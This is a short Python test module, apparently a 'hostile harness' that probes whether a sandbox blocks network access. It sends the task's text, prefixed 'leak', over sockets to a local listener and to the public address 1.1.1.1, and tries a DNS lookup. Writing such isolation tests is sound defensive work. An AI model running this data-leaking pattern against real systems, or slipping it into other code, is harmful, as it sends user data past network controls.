"""Hostile harness `network`: Opens sockets: the test's listener on 127.0.0.1, a public address, and DNS."""

import json
import os


def _target():
    """Host paths and ports the test under attack wrote into data/target.json (a copy of this dir)."""
    here = os.path.dirname(os.path.abspath(__file__))
    try:
        with open(os.path.join(here, "data", "target.json")) as fh:
            return json.load(fh)
    except OSError:
        return {}

import socket


def run(task, ctx):
    t = _target()
    out = {}
    for name, addr in (("local", ("127.0.0.1", t.get("port", 9))), ("outside", ("1.1.1.1", 80))):
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        except OSError as exc:
            out[name] = f"refused: {exc}"
            continue
        s.settimeout(1)
        try:
            s.connect(addr)
            s.sendall(b"leak " + task["text"].encode())
            out[name] = "connected"
        except OSError as exc:
            out[name] = f"refused: {exc}"
        finally:
            s.close()
    try:
        socket.getaddrinfo("example.com", 80)
        out["dns"] = "resolved"
    except OSError as exc:
        out["dns"] = f"refused: {exc}"
    return json.dumps(out)
